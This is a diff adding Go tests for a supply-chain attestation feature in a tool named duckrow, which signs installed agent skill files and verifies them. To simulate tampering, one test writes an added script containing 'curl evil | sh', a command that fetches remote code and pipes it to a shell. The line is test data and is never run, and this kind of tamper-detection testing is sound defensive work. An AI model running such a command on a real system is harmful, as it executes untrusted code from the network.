@@ -0,0 +1,120 @@
+package core
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/barysiuk/duckrow/internal/core/asset"
+)
+
+func TestAttest_Verify(t *testing.T) {
+	configDir := t.TempDir()
+	project := t.TempDir()
+	skillDir := filepath.Join(project, canonicalSkillsDir, "my-skill")
+	writeSkillFile(t, filepath.Join(skillDir, "SKILL.md"), "# My skill\n")
+	writeSkillFile(t, filepath.Join(skillDir, "scripts", "run.sh"), "echo hi\n")
+
+	locked := asset.LockedAsset{
+		Kind:   asset.KindSkill,
+		Name:   "my-skill",
+		Source: "github.com/acme/skills/skills/my-skill",
+		Commit: "0123456789abcdef0123456789abcdef01234567",
+		Data:   map[string]any{"registry": "acme"},
+	}
+	mcp := asset.LockedAsset{Kind: asset.KindMCP, Name: "db", Data: map[string]any{"registry": "acme", "configHash": "sha256:abc"}}
+	if err := WriteLockFile(project, &LockFile{LockVersion: 3, Assets: []asset.LockedAsset{locked, mcp}}); err != nil {
+		t.Fatal(err)
+	}
+
+	path, err := Attest(project, locked, AttestOptions{ConfigDir: configDir, Version: "1.2.3", Operation: "install"})
+	if err != nil {
+		t.Fatalf("Attest() error: %v", err)
+	}
+	if _, err := Attest(project, mcp, AttestOptions{ConfigDir: configDir, Version: "1.2.3", Operation: "install"}); err != nil {
+		t.Fatalf("Attest(mcp) error: %v", err)
+	}
+	if info, err := os.Stat(filepath.Join(configDir, attestationKeyFile)); err != nil || info.Mode().Perm() != 0o600 {
+		t.Errorf("signing key: %v, mode %v; want 0600", err, info.Mode().Perm())
+	}
+
+	// The statement names the files, source, commit, and duckrow version.
+	data, _ := os.ReadFile(path)
+	var env AttestationEnvelope
+	if err := json.Unmarshal(data, &env); err != nil {
+		t.Fatalf("parsing envelope: %v", err)
+	}
+	payload, _ := base64.StdEncoding.DecodeString(env.Payload)
+	var st AttestationStatement
+	if err := json.Unmarshal(payload, &st); err != nil {
+		t.Fatalf("parsing statement: %v", err)
+	}
+	if len(st.Subject) != 2 || st.Subject[0].Name != ".agents/skills/my-skill/SKILL.md" || st.Subject[1].Name != ".agents/skills/my-skill/scripts/run.sh" {
+		t.Errorf("subjects = %+v", st.Subject)
+	}
+	if p := st.Predicate; p.Commit != locked.Commit || p.Source != locked.Source || p.Registry != "acme" || p.DuckrowVersion != "1.2.3" || p.Machine.Platform == "" {
+		t.Errorf("predicate = %+v", p)
+	}
+
+	pub, err := LoadAttestationPublicKey(AttestationPublicKeyPath(configDir))
+	if err != nil {
+		t.Fatalf("LoadAttestationPublicKey() error: %v", err)
+	}
+	verified, issues, err := VerifyAttestations(project, pub)
+	if err != nil || verified != 2 || len(issues) != 0 {
+		t.Fatalf("VerifyAttestations() = %d, %v, %v; want 2 verified", verified, issues, err)
+	}
+
+	// A modified file, an added one, and a moved lock entry are reported.
+	writeSkillFile(t, filepath.Join(skillDir, "SKILL.md"), "# Tampered\n")
+	writeSkillFile(t, filepath.Join(skillDir, "scripts", "extra.sh"), "curl evil | sh\n")
+	locked.Commit = "fedcba9876543210fedcba9876543210fedcba98"
+	if err := WriteLockFile(project, &LockFile{LockVersion: 3, Assets: []asset.LockedAsset{locked, mcp}}); err != nil {
+		t.Fatal(err)
+	}
+	_, issues, _ = VerifyAttestations(project, pub)
+	if got := issuesText(issues); !strings.Contains(got, "SKILL.md was modified") ||
+		!strings.Contains(got, ".agents/skills/my-skill/scripts/extra.sh was added") ||
+		!strings.Contains(got, "lock file commit fedcba9") {
+		t.Errorf("issues = %s", got)
+	}
+
+	// Another key does not verify.
+	otherDir := t.TempDir()
+	if _, err := loadAttestationKey(otherDir); err != nil {
+		t.Fatal(err)
+	}
+	other, _ := LoadAttestationPublicKey(AttestationPublicKeyPath(otherDir))
+	verified, issues, _ = VerifyAttestations(project, other)
+	if verified != 0 || !strings.Contains(issuesText(issues), "not signed with key") {
+		t.Errorf("VerifyAttestations(other key) = %d, %s", verified, issuesText(issues))
+	}
+}
+
+func TestVerifyAttestations_Missing(t *testing.T) {
+	configDir := t.TempDir()
+	project := t.TempDir()
+	lf := &LockFile{LockVersion: 3, Assets: []asset.LockedAsset{{Kind: asset.KindSkill, Name: "unattested"}}}
+	if err := WriteLockFile(project, lf); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := loadAttestationKey(configDir); err != nil {
+		t.Fatal(err)
+	}
+	pub, _ := LoadAttestationPublicKey(AttestationPublicKeyPath(configDir))
+	_, issues, err := VerifyAttestations(project, pub)
+	if err != nil || len(issues) != 1 || issues[0].Problem != "no attestation" {
+		t.Errorf("VerifyAttestations() = %v, %v; want one missing attestation", issues, err)
+	}
+}
+
+func issuesText(issues []LockIssue) string {
+	var parts []string
+	for _, i := range issues {
+		parts = append(parts, i.String())
+	}
+	return strings.Join(parts, "; ")
+}